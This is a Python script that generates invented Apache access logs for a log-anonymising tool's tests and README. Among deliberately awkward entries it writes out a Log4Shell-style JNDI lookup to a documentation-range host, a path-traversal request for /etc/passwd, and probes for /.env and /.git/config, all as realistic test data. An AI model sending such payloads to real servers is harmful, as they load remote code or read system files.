"""Writes `sample_logs/`: three small days of a site, for the README, the tests and a newcomer's first look.

    python benchmarks/samples.py

The script lies here and not beside its logs, so that ``logblur run sample_logs/`` finds nothing but logs there.

Everything in them is invented. Addresses are those set aside for documentation (RFC 5737, RFC 3849), names are
example.com and its like (RFC 2606); only search engines and crawlers are called by their names, since that is how they
are recognised. The logs are large enough for the default policy to publish rows in each of its tables, and hold what
real logs hold: requests that are none, bytes that are not UTF-8, addresses in every spelling, host names, quotes,
e-mail addresses where they do not belong, a blank line and broken ones.

Only ``random.random`` is drawn from: its sequence for a seed is the one thing the standard library promises to keep.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Final, TypeVar

T = TypeVar("T")

FOLDER: Final = Path(__file__).parent.parent / "sample_logs"
SEED: Final = 2026_11_10
RIGA: Final = timezone(timedelta(hours=2))  # in winter
DAYS: Final = [datetime(2025, 11, day, tzinfo=RIGA) for day in (10, 11, 12)]

SITES: Final = ("www.example.com", "shop.example.com", "library.example.org")
PAGES: Final = (
    "/", "/about", "/events", "/events/2025/autumn-concert", "/library/catalogue", "/library/opening-hours", "/news",
    "/news/2025/11/new-reading-room", "/news/2025/11/winter-timetable", "/contact", "/kurss/iev%C4%93rp%C5%A1ana",
    "/library/item/48213", "/library/item/90177", "/search?q=concert", "/user/anna.ozola/profile",
)  # fmt: skip
ASSETS: Final = ("/static/site.css", "/static/app.3f9c1b.js", "/img/logo.svg", "/img/hall-1280.webp", "/favicon.ico")
DOWNLOADS: Final = ("/files/annual-report-2025.pdf", "/files/programme.pdf", "/files/photos.zip")
GONE: Final = ("/old/timetable.html", "/apple-touch-icon.png", "/feed.xml")
PROBES: Final = ("/wp-login.php", "/.env", "/xmlrpc.php", "/admin/config.php", "/.git/config")
SEARCHES: Final = (
    "https://www.google.com/", "https://www.google.lv/", "https://www.bing.com/search?q=example+library",
    "https://duckduckgo.com/", "https://yandex.com/search/?text=example",
)  # fmt: skip
REFERRALS: Final = (
    "https://www.example.org/links", "https://blog.example.net/2025/11/concerts?ref=anna%40example.org",
    "https://forum.example.org/t/4711", "http://news.example.net/", "android-app://org.example.reader/",
)  # fmt: skip
_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0"
AGENTS: Final = (
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME.format(142)} Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME.format(142)} Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 "
    "Safari/605.1.15",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME.format(142)} Safari/537.36 Edg/142.0.0.0",
    f"Mozilla/5.0 (X11; Linux x86_64) {_CHROME.format(141)} Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
)
BOTS: Final = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
    "Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "curl/8.5.0",
    "python-requests/2.32.3",
)


@dataclass(frozen=True, slots=True)
class Hit:
    """One request; texts as Apache would write them."""

    time: datetime
    client: str
    request: str
    status: int
    size: int | None
    referer: str = "-"
    agent: str = "-"
    user: str = "-"
    site: str = SITES[0]

    def common(self) -> bytes:
        """As ``%h %l %u %t "%r" %>s %b``."""
        time = self.time.strftime("%d/Nov/%Y:%H:%M:%S %z")  # %b would follow the locale
        size = "-" if self.size is None else self.size
        return f'{self.client} - {self.user} [{time}] "{self.request}" {self.status} {size}'.encode("latin-1")

    def combined(self) -> bytes:
        """As ``... "%{Referer}i" "%{User-Agent}i"``."""
        return self.common() + f' "{self.referer}" "{self.agent}"'.encode("latin-1")

    def vhost_combined(self) -> bytes:
        """As ``%v:%p ...``."""
        return f"{self.site}:443 ".encode() + self.combined()


class Draw:
    """Seeded choices."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed).random

    def below(self, n: int) -> int:
        """A number from 0 to n - 1."""
        return int(self._random() * n)

    def one(self, choices: Sequence[T]) -> T:
        """One of them, all alike."""
        return choices[self.below(len(choices))]

    def popular(self, choices: Sequence[T]) -> T:
        """One of them, the first ones more often: the third power favours them as a Zipf law would."""
        return choices[int(self._random() ** 3 * len(choices))]

    def chance(self, share: float) -> bool:
        """True that often."""
        return self._random() < share


def logs() -> dict[str, bytes]:
    """Return each log by its file name, not compressed."""
    first, second, third = DAYS
    site = [*_day(Draw(SEED), first, 400), *_awkward(first), *_day(Draw(SEED + 1), second, 350)]
    mirror = [replace(hit, user=_user(n)) for n, hit in enumerate(_day(Draw(SEED + 2), second, 250))]
    sites = [*_day(Draw(SEED + 3), second, 300, sites=True), *_day(Draw(SEED + 4), third, 400, sites=True)]
    in_utc = [replace(hit, time=hit.time.astimezone(UTC)) for hit in sites]
    return {
        "combined.log": _text([hit.combined() for hit in _in_order(site)], _broken(first)),
        "common.log": _text([hit.common() for hit in _in_order(mirror)], []),
        "vhost_combined.log.gz": _text([hit.vhost_combined() for hit in _in_order(in_utc)], []),
    }


def main() -> None:
    """Write the logs into `FOLDER`."""
    FOLDER.mkdir(exist_ok=True)
    for name, data in logs().items():
        (FOLDER / name).write_bytes(gzip.compress(data, mtime=0) if name.endswith(".gz") else data)


def _day(draw: Draw, day: datetime, visits: int, *, sites: bool = False) -> Iterator[Hit]:
    for _ in range(visits):
        site = draw.popular(SITES) if sites else SITES[0]
        yield from _visit(draw, day, site)
    for _ in range(visits):
        path = draw.popular(PAGES) if draw.chance(0.8) else draw.one(("/robots.txt", *GONE))
        status = 404 if path in GONE else 200
        moment = day + timedelta(seconds=draw.below(86_400))
        bot = f"192.0.2.{100 + draw.below(60)}"
        yield Hit(moment, bot, f"GET {path} HTTP/1.1", status, 900 + draw.below(9000), agent=draw.popular(BOTS))
    for _ in range(visits // 6):  # somebody looks for holes
        moment = day + timedelta(seconds=draw.below(86_400))
        agent = draw.one((AGENTS[0], "Mozilla/5.0", ""))
        yield Hit(moment, f"198.51.100.{draw.below(40)}", f"GET {draw.one(PROBES)} HTTP/1.1", 404, 196, agent=agent)


def _visit(draw: Draw, day: datetime, site: str) -> Iterator[Hit]:
    """One visitor: pages with what belongs to them, now and then a download or a page that is gone."""
    client, agent = _client(draw), draw.popular(AGENTS)
    hour = draw.popular((20, 19, 12, 11, 10, 21, 9, 15, 14, 13, 16, 17, 18, 8, 22, 7, 23, 6, 0, 5, 1, 2, 3, 4))
    moment = day + timedelta(hours=hour, seconds=draw.below(3600 - 600))
    referer = draw.popular(("-", draw.popular(SEARCHES), draw.popular(REFERRALS)))
    protocol = "HTTP/2.0" if draw.chance(0.7) else "HTTP/1.1"

    def hit(path: str, status: int, size: int | None, referer: str) -> Hit:
        return Hit(moment, client, f"GET {path} {protocol}", status, size, referer, agent, site=site)

    for _ in range(1 + draw.popular(range(7))):
        page = draw.popular(PAGES)
        here = f"https://{site}{page}"
        fresh = draw.chance(0.85)
        yield hit(page, 200 if fresh else 304, 4000 + draw.below(30_000) if fresh else None, referer)
        for asset in ASSETS[: draw.popular(range(4))]:
            yield hit(asset, 200, 700 + draw.below(90_000), here)
        if draw.chance(0.15):
            whole = draw.chance(0.6)
            yield hit(draw.popular(DOWNLOADS), 200 if whole else 206, 1_482_113 if whole else 65_536, here)
        if draw.chance(0.1):
            yield hit(draw.popular(GONE), 404, 196, here)
        if draw.chance(0.01):
            yield hit("/search?q=", 500, 530, here)
        moment += timedelta(seconds=5 + draw.below(60))
        referer = here


def _client(draw: Draw) -> str:
    """An address for documentation: IPv4, an IPv6 of one of many homes, or IPv4 written as IPv6."""
    if draw.chance(0.2):
        return f"2001:db8:{draw.below(64):x}:{draw.below(8)}00::{1 + draw.below(0xFFFF):x}"
    net, host = draw.one(("192.0.2", "198.51.100", "203.0.113")), draw.below(256)
    return f"::ffff:{net}.{host}" if draw.chance(0.03) else f"{net}.{host}"


def _user(n: int) -> str:
    """A few requests of a log carry a user name, some with a space in it."""
    return {7: "anna.ozola", 19: "janis@example.com", 37: "Anna Ozola"}.get(n % 101, "-")


def _awkward(day: datetime) -> Iterator[Hit]:
    """What real logs hold and parsers trip over, as Apache and others write it."""
    chrome, firefox = AGENTS[0], AGENTS[3]
    odd: list[tuple[str, str, int, int | None, str, str]] = [
        # client, request, status, bytes, referrer, user agent
        ("198.51.100.7", "-", 408, None, "-", "-"),
        ("198.51.100.8", r"\x16\x03\x01\x02", 400, 226, "-", "-"),
        ("198.51.100.8", r"\x16\x03\x01\x01\x17\x01\x00\x01\x13\x03\x03\xEF\x8A\"\xA1", 400, 226, "-", "-"),
        ("198.51.100.9", "", 400, 0, "-", ""),
        ("203.0.113.20", r"GET /search?q=\"quoted\" HTTP/1.1", 200, 5120, "-", firefox),
        ("203.0.113.21", "GET / HTTP/1.1", 200, 5120, "-", r"Mozilla/5.0 (compatible; \"Quoted\" Browser \\ 1.0)"),
        ("203.0.113.22", r"GET /kurss/iev\xc4\x93rp\xc5\xa1ana HTTP/1.1", 200, 5120, "-", chrome),
        ("203.0.113.23", "GET /kurss/ievēršana HTTP/1.1".encode().decode("latin-1"), 200, 5120, "-", chrome),
        ("203.0.113.24", "GET /caf\xe9 HTTP/1.1", 404, 196, "-", firefox),
        ("203.0.113.25", "GET /news?email=anna.ozola%40example.com&token=8f14e45f HTTP/1.1", 200, 5120, "-", chrome),
        ("203.0.113.26", "GET /unsubscribe/anna.ozola@example.com HTTP/1.1", 200, 431, "-", firefox),
        (
            "203.0.113.27",
            "GET /shop/basket;jsessionid=1A530637289A03B07199A44E8D531427 HTTP/1.1",
            200,
            8120,
            "-",
            chrome,
        ),
        ("203.0.113.28", "GET http://www.example.com/news HTTP/1.1", 200, 5120, "-", firefox),
        ("203.0.113.29", "CONNECT www.example.org:443 HTTP/1.1", 405, 0, "-", "-"),
        ("203.0.113.30", "OPTIONS * HTTP/1.0", 200, 125, "-", "Apache/2.4.62 (internal dummy connection)"),
        ("203.0.113.31", "PROPFIND / HTTP/1.1", 405, 229, "-", "Microsoft-WebDAV-MiniRedir/10.0.19045"),
        ("203.0.113.32", "GET /", 400, 226, "-", "-"),
        ("203.0.113.33", "GET  /two  spaces  HTTP/1.1", 400, 226, "-", chrome),
        ("203.0.113.34", "HEAD / HTTP/1.1", 200, None, "-", "curl/8.5.0"),
        ("203.0.113.35", "GET /" + "../" * 40 + "etc/passwd HTTP/1.1", 400, 226, "-", "-"),
        ("203.0.113.36", "GET /search?q=" + "lorem+ipsum+" * 600 + " HTTP/1.1", 414, 248, "-", chrome),
        ("203.0.113.37", "GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1", 404, 196, "${jndi:ldap://x}", "${jndi:x}"),
        ("203.0.113.38", "POST /contact HTTP/1.1", 499, 0, "https://www.example.com/contact", firefox),
        ("203.0.113.39", "GET /news HTTP/3.0", 200, 5120, "https://user:secret@www.example.org/path", chrome),
        ("2001:db8::7", "GET / HTTP/2.0", 200, 5120, "-", chrome),
        ("2001:0DB8:0000:0000:0000:0000:0000:0007", "GET / HTTP/2.0", 200, 5120, "-", chrome),
        ("::FFFF:192.0.2.33", "GET / HTTP/2.0", 200, 5120, "-", chrome),
        ("host-7.dialup.example.net", "GET / HTTP/1.1", 200, 5120, "-", firefox),
        ("localhost", "GET /server-status HTTP/1.1", 200, 3402, "-", "munin/2.0.76 (libwww-perl/6.68)"),
        ("-", "GET / HTTP/1.1", 200, 5120, "-", firefox),
        ("unknown, 192.0.2.44", "GET / HTTP/1.1", 200, 5120, "-", firefox),
    ]
    for n, (client, request, status, size, referer, agent) in enumerate(odd):
        yield Hit(day + timedelta(minutes=40 * n + 11), client, request, status, size, referer, agent)
    yield Hit(day + timedelta(hours=13), "203.0.113.40", "GET /intranet HTTP/1.1", 200, 77, user="Anna Maria Ozola")
    yield Hit(day + timedelta(hours=14), "203.0.113.41", "GET /intranet HTTP/1.1", 401, 381, user='""')


def _broken(day: datetime) -> list[bytes]:
    """Lines that are none of the format."""
    time = day.strftime("%d/Nov/%Y:03:14:15 %z")
    return [
        b"",
        f'203.0.113.50 - - [{time}] "GET /cut/off/in/the/midd'.encode(),
        f'203.0.113.51 - - [{time}] "GET / HTTP/1.1" 200 5120 "https://www.example.org/'.encode(),
        b'203.0.113.52 - - [10/Foo/2025:99:14:15 +0200] "GET / HTTP/1.1" 200 5120 "-" "-"',
        b"\0" * 64,
        bytes(range(128, 256)),
    ]


def _in_order(hits: Sequence[Hit]) -> list[Hit]:
    return sorted(hits, key=lambda hit: hit.time)


def _text(lines: list[bytes], broken: list[bytes]) -> bytes:
    for n, line in enumerate(broken):
        lines.insert((n + 1) * len(lines) // (len(broken) + 1), line)
    return b"".join(line + b"\n" for line in lines)


if __name__ == "__main__":
    main()
